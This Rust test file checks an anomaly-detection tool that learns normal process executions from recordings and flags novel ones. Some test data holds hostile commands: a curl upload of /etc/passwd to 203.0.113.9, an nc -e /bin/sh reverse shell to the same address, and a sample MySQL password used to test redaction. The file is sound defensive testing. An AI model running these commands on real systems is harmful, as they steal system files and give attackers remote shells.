//! Recordings in, novel executions out.

use crate::recording::{DAY, Folder, Line, exfiltration, gzip, line, text, web_week};
use crate::support::{Ran, replay, run, run_with, watch};

/// The summary's line with this label.
fn summary<'a>(ran: &'a Ran, label: &str) -> &'a str {
    let line = ran.out.lines().find(|line| line.split_whitespace().next() == Some(label));
    line.unwrap_or_else(|| panic!("no {label} in\n{}", ran.out))
}

fn week_and(more: &[Line]) -> Vec<Line> {
    [web_week("web"), more.to_vec()].concat()
}

#[test]
fn silent_while_it_learns_then_what_is_novel_with_its_reason() {
    let folder = Folder::new();
    let recording = folder.recording("r.jsonl", &week_and(&[exfiltration("web").at(7.0 * DAY)]));
    let ran = run(&mut replay(&recording)).succeeded();
    let [shown] = ran.shown()[..] else { panic!("one line is to be shown:\n{}", ran.out) };
    assert!(shown.starts_with("00:00:00 web 0."), "{shown}");
    assert!(
        shown.contains(" nginx > sh: sh -c curl -s --upload-file /etc/passwd http://203.0.113.9/"),
        "{shown}"
    );
    let (_, reason) = shown.split_once("  new: ").unwrap_or_else(|| panic!("no reason in {shown}"));
    for part in ["parent nginx", "--upload-file", "public", "; nearest: ", ", seen "] {
        assert!(reason.contains(part), "{part:?} is not in {reason}");
    }
    let level = shown.split(' ').nth(3);
    assert!(matches!(level, Some("warn" | "critical")), "{level:?} in {shown}");
    assert!(summary(&ran, "executions").contains("(replay 1,009)"), "{}", ran.out);
    assert!(summary(&ran, "held").contains("1 execution"), "{}", ran.out);
    assert!(summary(&ran, "novel").contains("1 execution in 1 alert group"), "{}", ran.out);
    assert!(ran.err.contains("learned enough to score: web"), "{}", ran.err);
}

#[test]
fn a_workload_that_has_not_learned_enough_has_no_score_for_anything() {
    let folder = Folder::new();
    let recording = folder.recording("r.jsonl", &week_and(&[exfiltration("web").at(7.0 * DAY)]));
    let ran = run(replay(&recording).args(["--json", "--learn-executions", "5000"])).succeeded();
    let lines = ran.json();
    assert_eq!(lines.len(), 1009);
    assert!(
        lines
            .iter()
            .all(|line| line["score"].is_null() && line["level"] == "learning" && line["novel"] == false)
    );
    assert_eq!(lines[1008]["learning"]["executions"], 1009);
    assert_eq!(lines[1008]["learning"]["executions_needed"], 5000);
}

#[test]
fn what_was_learned_scores_zero_and_what_is_held_stays_novel() {
    let folder = Folder::new();
    let attack = exfiltration("web");
    let more = [attack.clone().at(7.0 * DAY), attack.at(7.0 * DAY + 60.0)];
    let recording = folder.recording("r.jsonl", &week_and(&more));
    let ran = run(replay(&recording).arg("--json")).succeeded();
    let lines = ran.json();
    let (known, novel) = lines.split_at(lines.len() - 2);
    let scored: Vec<_> = known.iter().filter(|line| !line["score"].is_null()).collect();
    assert!(scored.len() > 800, "warm-up took {} of {}", known.len() - scored.len(), known.len());
    for line in scored {
        assert_eq!((line["score"].as_f64(), &line["standing"]), (Some(0.0), &"known".into()), "{line}");
    }
    for (times, line) in (1..).zip(novel) {
        assert_eq!(
            (&line["held"], &line["novel"], line["seen"].as_u64()),
            (&true.into(), &true.into(), Some(times))
        );
        assert!(line["score"].as_f64() >= line["threshold"].as_f64(), "{line}");
    }
    assert_eq!((&novel[0]["first"], &novel[1]["first"]), (&true.into(), &false.into()));
}

#[test]
fn plain_gzip_standard_input_and_several_files_are_the_same() {
    let folder = Folder::new();
    let lines = week_and(&[exfiltration("web").at(7.0 * DAY)]);
    let all = text(&lines);
    let plain = folder.file("plain", &all);
    let zipped = folder.file("zipped", gzip(all.as_bytes()));
    let (first, second) = lines.split_at(500);
    let (first, second) = (folder.recording("1", first), folder.file("2", gzip(text(second).as_bytes())));

    let expected = run(replay(&plain).arg("--json")).succeeded().out;
    assert_eq!(expected.lines().count(), 1009);
    let same = |ran: Ran| assert!(ran.succeeded().out == expected, "another output");
    same(run(replay(&zipped).arg("--json")));
    same(run(replay(&first).arg("--replay").arg(&second).arg("--json")));
    same(run_with(watch().args(["--replay", "-", "--json"]), all.as_bytes()));
    same(run_with(watch().args(["--replay", "-", "--json"]), &gzip(all.as_bytes())));
}

#[test]
fn nothing_is_learned_from_a_line_labelled_as_an_attack() {
    let folder = Folder::new();
    // Near enough to what is known to be learned at once, were it not for the label.
    let near = line("web", "check.sh", &["curl", "-s", "-f", "http://127.0.0.1:8080/healthz"]);
    let days = |line: &Line| (7..17).map(|day| line.clone().at(f64::from(day) * DAY)).collect::<Vec<_>>();
    let scores = |line: &Line| {
        let recording = folder.recording("r.jsonl", &week_and(&days(line)));
        let lines = run(replay(&recording).arg("--json")).succeeded().json();
        let last = lines[lines.len() - 10..].to_vec();
        last.iter().map(|line| (line["distance"].as_f64(), line["standing"].clone())).collect::<Vec<_>>()
    };
    let unlabelled = scores(&near);
    assert!(unlabelled[0].0 > Some(0.0) && unlabelled[9] == (Some(0.0), "known".into()), "{unlabelled:?}");
    let labelled = scores(&near.attack());
    assert!(labelled.iter().all(|line| *line == (unlabelled[0].0, "unlearned".into())), "{labelled:?}");
}

#[test]
fn repeats_of_an_alert_group_are_counted_and_shown_when_asked() {
    let folder = Folder::new();
    let shell = |n: u32| line("web", "nginx", &["sh", "-c", &format!("nc -e /bin/sh 203.0.113.9 {n}")]);
    let day = |day: u32| (1..=4).map(move |n| shell(4000 + 7 * n).at(f64::from(day) * DAY + f64::from(n)));
    let lines: Vec<_> = day(7).chain(day(8)).collect();
    let recording = folder.recording("r.jsonl", &week_and(&lines));
    let ran = run(&mut replay(&recording)).succeeded();
    let shown = ran.shown();
    let (repeats, first): (Vec<&str>, Vec<&str>) = shown.iter().partition(|line| line.starts_with('('));
    assert_eq!(first.len(), 2, "the first of each day:\n{}", ran.out);
    assert!(repeats.iter().all(|line| line.contains("(+3 more of web nginx > sh, up to 0.")), "{repeats:?}");
    assert!(
        summary(&ran, "novel").contains("8 executions in 2 alert groups; 6 repeats not shown"),
        "{}",
        ran.out
    );

    let every = run(replay(&recording).arg("--every")).succeeded();
    assert_eq!(every.shown().len(), 8, "{}", every.out);
}

#[test]
fn all_shows_the_normal_ones_and_only_one_workload() {
    let folder = Folder::new();
    let mut lines = web_week("web");
    lines.extend(web_week("other").into_iter().take(60));
    lines.push(exfiltration("web").at(8.0 * DAY));
    let recording = folder.recording("r.jsonl", &lines);
    let ran = run(replay(&recording).args(["--all", "--only", "other"])).succeeded();
    assert_eq!(ran.shown().len(), 60, "{}", ran.out);
    assert!(ran.shown().iter().all(|line| line.contains(" other ")), "{}", ran.out);
    let unknown = run(replay(&recording).args(["--only", "wbe"])).succeeded();
    assert!(unknown.shown().is_empty());
    assert!(unknown.err.contains("no execution belongs to wbe, only to other, web"), "{}", unknown.err);
}

#[test]
fn one_workload_for_everything() {
    let folder = Folder::new();
    let mut lines = web_week("web");
    lines.extend(web_week("other"));
    let recording = folder.recording("r.jsonl", &lines);
    let ran = run(replay(&recording).args(["--json", "--workload", "mine"])).succeeded();
    assert!(ran.json().iter().all(|line| line["workload"] == "mine"));
}

#[test]
fn a_threshold_of_ones_own() {
    let folder = Folder::new();
    let near = line("web", "check.sh", &["curl", "-s", "-f", "http://127.0.0.1:8080/healthz"]).at(7.0 * DAY);
    let recording = folder.recording("r.jsonl", &week_and(&[near]));
    assert!(run(&mut replay(&recording)).succeeded().shown().is_empty());
    let low = run(replay(&recording).args(["--threshold", "0.2"])).succeeded();
    assert_eq!(low.shown().len(), 1, "{}", low.out);
    let json = run(replay(&recording).args(["--threshold", "0.2", "--json"])).succeeded().json();
    assert!(json.iter().all(|line| line["threshold"] == 0.2));
}

#[test]
fn garbage_is_named_counted_and_passed_over() {
    let folder = Folder::new();
    let good = text(&web_week("web"));
    let (before, after) = good.split_at(good.find('\n').expect("it has lines") + 1);
    let garbage: [&[u8]; 6] = [
        b"not json",
        b"[1, 2]",
        b"{\"name\": 5}",
        b"{}",
        b"\xff\xfe\x1b[31m",
        b"{\"name\":\"x\",\"time\":-1}",
    ];
    let mut bytes = before.as_bytes().to_vec();
    for line in garbage.iter().cycle().take(30) {
        bytes.extend_from_slice(line);
        bytes.push(b'\n');
    }
    bytes.extend_from_slice(after.as_bytes());
    let recording = folder.file("r.jsonl", bytes);
    let ran = run(&mut replay(&recording)).succeeded();
    let told: Vec<_> = ran.err.lines().filter(|line| line.contains(": line ")).collect();
    assert_eq!(told.len(), 10, "{}", ran.err);
    for (number, line) in (2..).zip(&told) {
        assert!(line.contains(&format!("r.jsonl: line {number}: ")) && line.len() < 400, "{line}");
    }
    assert!(!ran.err.contains('\x1b'), "{:?}", ran.err);
    assert!(summary(&ran, "not").contains("30 lines of the recording"), "{}", ran.out);
    assert!(summary(&ran, "executions").contains("1,008"), "{}", ran.out);
}

#[test]
fn a_line_without_end_is_passed_over() {
    let folder = Folder::new();
    let endless = format!("{{\"name\":\"x\",\"exe\":\"{}", "x".repeat(5 << 20));
    let recording = folder.file("r.jsonl", format!("{endless}\n{}", text(&web_week("web"))));
    let ran = run(&mut replay(&recording)).succeeded();
    assert!(ran.err.contains("line 1: longer than"), "{}", ran.err);
    assert!(summary(&ran, "executions").contains("1,008"), "{}", ran.out);
}

#[test]
fn an_empty_recording_is_no_error() {
    let ran = run(watch().args(["--replay", "-"])).succeeded();
    assert!(summary(&ran, "executions").ends_with("(replay 0)"), "{}", ran.out);
}

mod record {
    use std::fs;
    use std::os::unix::fs::PermissionsExt;

    use super::*;

    #[test]
    fn what_is_recorded_replays_the_same() {
        let folder = Folder::new();
        let more = [
            exfiltration("web").at(7.0 * DAY).attack().with("session", "s1").with("tty", true),
            line("web", "sh", &["sh", "", "ü\u{202e}\x1b[31m"])
                .at(7.0 * DAY)
                .with("day", 7)
                .with("loginuid", 1000),
        ];
        let recording = folder.recording("r.jsonl", &week_and(&more));
        let expected = run(replay(&recording).arg("--json")).succeeded().out;
        for name in ["copy.jsonl", "copy.jsonl.gz"] {
            let copy = folder.path(name);
            run(replay(&recording).arg("--record").arg(&copy)).succeeded();
            let mode = fs::metadata(&copy).expect("it was written").permissions().mode();
            assert_eq!(mode & 0o777, 0o600);
            assert!(
                run(replay(&copy).arg("--json")).succeeded().out == expected,
                "{name} replays differently"
            );
            let magic = fs::read(&copy).expect("it was written")[..2] == [0x1f, 0x8b];
            assert_eq!(magic, name.ends_with(".gz"));
        }
    }

    #[test]
    fn secrets_are_not_recorded() {
        let folder = Folder::new();
        let secret = line("web", "sh", &["mysql", "--password=hunter2secret", "-u", "root"]).at(0.0);
        let (recording, copy) = (folder.recording("r.jsonl", &[secret]), folder.path("copy.jsonl"));
        let ran = run(replay(&recording).args(["--all", "--record"]).arg(&copy)).succeeded();
        let recorded = fs::read_to_string(&copy).expect("it was written");
        assert!(recorded.contains("--password=") && !recorded.contains("hunter2"), "{recorded}");
        assert!(!ran.out.contains("hunter2"), "{}", ran.out);
    }

    #[test]
    fn a_file_that_exists_is_not_replaced_unasked() {
        let folder = Folder::new();
        let recording = folder.recording("r.jsonl", &web_week("web"));
        let copy = folder.file("copy.jsonl", "precious");
        run(replay(&recording).arg("--record").arg(&copy)).failed_with(&["copy.jsonl", "exists", "--force"]);
        assert_eq!(fs::read(&copy).expect("it is there"), b"precious");
        run(replay(&recording).arg("--force").arg("--record").arg(&copy)).succeeded();
        assert_eq!(fs::read_to_string(&copy).expect("it is there").lines().count(), 1008);
    }

    #[test]
    fn a_full_disk_ends_the_recording_with_a_sentence_and_not_the_watching() {
        let folder = Folder::new();
        let recording = folder.recording("r.jsonl", &week_and(&[exfiltration("web").at(7.0 * DAY)]));
        let ran = run(replay(&recording).args(["--force", "--record", "/dev/full"]));
        let ran = ran.failed_with(&["/dev/full", "stops here", "make room"]);
        assert_eq!(ran.shown().len(), 1, "{}", ran.out);
    }
}
